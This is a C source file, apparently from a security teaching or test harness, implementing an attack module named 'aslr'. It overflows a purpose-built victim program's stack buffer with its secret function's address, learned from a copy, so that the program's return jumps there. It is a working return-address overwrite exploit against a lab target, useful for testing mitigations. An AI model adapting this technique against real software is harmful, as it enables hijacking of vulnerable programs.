/*
 * A textbook stack overflow in another program.  The attacker has the victim's program too, so he looks up
 * in a copy of his own where its secret function lies, and sends the server that address, as often as it
 * takes to reach a return address.  He learns nothing of the server itself.
 */
#define _GNU_SOURCE
#include "user/attack/attack.h"
#include "user/victim/victim.h"

#include <signal.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#define WORDS 48 /* from the buffer up; the return address is among them */

/* Runs the victim with `message` as its input; what it writes goes to `reply`.  Its exit status. */
static int
run_victim(const char *argument, const void *message, size_t size, void *reply, size_t reply_size)
{
	int in[2], out[2], status;
	pid_t child;

	if (pipe(in) < 0 || pipe(out) < 0 || (child = fork()) < 0)
		give_up("fork");
	if (child == 0) {
		dup2(in[0], 0);
		dup2(out[1], 1);
		close(in[1]);
		execl("/bin/victim", "victim", argument, NULL);
		_exit(126);
	}
	close(in[0]);
	close(out[1]);
	if (write(in[1], message, size) != (ssize_t)size)
		give_up("the victim does not listen");
	close(in[1]);
	if (reply_size && read(out[0], reply, reply_size) != (ssize_t)reply_size)
		give_up("the victim does not answer");
	close(out[0]);
	if (waitpid(child, &status, 0) != child)
		give_up("waitpid");
	return status;
}

static void
run(void)
{
	struct {
		uint64_t size;
		uint64_t words[WORDS];
	} message = { 5, { 0 } };
	const volatile uint64_t *safe;
	uint64_t where;
	int fd = memfd_create("safe", 0), status;

	if (fd < 0 || dup2(fd, SAFE_FD) < 0 || ftruncate(SAFE_FD, 4096) < 0)
		give_up("memfd_create");
	safe = mmap(NULL, 4096, PROT_READ, MAP_SHARED, SAFE_FD, 0);
	if (safe == MAP_FAILED)
		give_up("mmap");
	attack_address = (uint64_t)safe;

	step("legal: the victim takes a greeting; a copy of it tells where its secret function lies");
	memcpy(message.words, "hello", 5);
	if (run_victim(NULL, &message, sizeof(message.size) + 5, NULL, 0) != 0)
		give_up("the victim does not like the greeting");
	if (run_victim("where", NULL, 0, &where, sizeof(where)) != 0)
		give_up("the copy does not tell");

	step("illegal: a greeting that is too long ends in that address");
	message.size = sizeof(message.words);
	for (int i = 0; i < WORDS; i++)
		message.words[i] = where;
	memcpy(message.words, "hello", 5);
	status = run_victim(NULL, &message, sizeof(message), NULL, 0);
	if (*safe == SAFE_MAGIC)
		step("the safe is open");
	if (WIFSIGNALED(status))
		raise(WTERMSIG(status));
}

ATTACK(aslr) = {
	.name = "aslr",
	.what = "a stack overflow returns to where the victim's function lies in another process",
	.needs_off_x86_64 = "aslr",
	.needs_off_aarch64 = "aslr",
	.run = run,
};
